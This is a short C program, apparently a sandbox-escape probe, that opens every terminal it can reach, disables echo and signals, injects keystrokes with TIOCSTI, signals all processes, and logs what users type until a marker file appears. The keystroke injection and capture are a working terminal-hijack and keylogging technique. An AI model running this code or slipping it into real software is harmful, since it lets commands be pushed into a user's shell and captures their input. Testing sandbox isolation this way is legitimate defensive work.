/* In a sandbox: does to every terminal that it finds, and to every process that it can name without a number, what it can. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <termios.h>
#include <unistd.h>

static void set(int fd)
{
    struct termios settings;
    struct winsize size = { .ws_row = 7, .ws_col = 7 };
    if (tcgetattr(fd, &settings) == 0) {
        settings.c_lflag &= ~(ECHO | ICANON | ISIG);
        settings.c_cc[VMIN] = 1;
        tcsetattr(fd, TCSANOW, &settings);
    }
    ioctl(fd, TIOCSWINSZ, &size);
    ioctl(fd, TIOCEXCL);
    ioctl(fd, TCXONC, TCOOFF);
    ioctl(fd, TCXONC, TCOON);
    for (const char *key = "echo pushed\n"; *key; key++)
        ioctl(fd, TIOCSTI, key);
    ioctl(fd, TIOCSPGRP, &(pid_t){ getpgrp() });
}

int main(int argc, char **argv)
{
    const char *names[] = { "/dev/tty", "/dev/console", "/dev/stdin", "/dev/stdout", "/dev/stderr" };
    struct pollfd readable[32];
    int count = 0;
    for (int i = SIGHUP; i < SIGRTMAX; i++)
        signal(i, SIG_IGN);
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
        open(names[i], O_RDWR | O_NONBLOCK);
    for (int fd = 0; fd < 32; fd++) {
        ioctl(fd, TIOCSCTTY, 1);
        set(fd);
        if (isatty(fd))
            readable[count++] = (struct pollfd){ .fd = fd, .events = POLLIN };
    }
    kill(0, SIGUSR1);
    kill(-1, SIGUSR1);
    setpriority(PRIO_PGRP, 0, 7);
    setpriority(PRIO_USER, 0, 7);
    printf("attacked %d\n", count);
    fflush(stdout);
    /* What is typed until there is a file. */
    while (argc > 1 && access(argv[1], F_OK) != 0) {
        if (poll(readable, count, 20) <= 0)
            continue;
        for (int i = 0; i < count; i++) {
            char typed[256];
            ssize_t length = readable[i].revents & POLLIN ? read(readable[i].fd, typed, sizeof typed - 1) : 0;
            if (length > 0) {
                typed[length] = 0;
                printf("TAKEN %s\n", typed);
                fflush(stdout);
            }
        }
    }
    return 0;
}
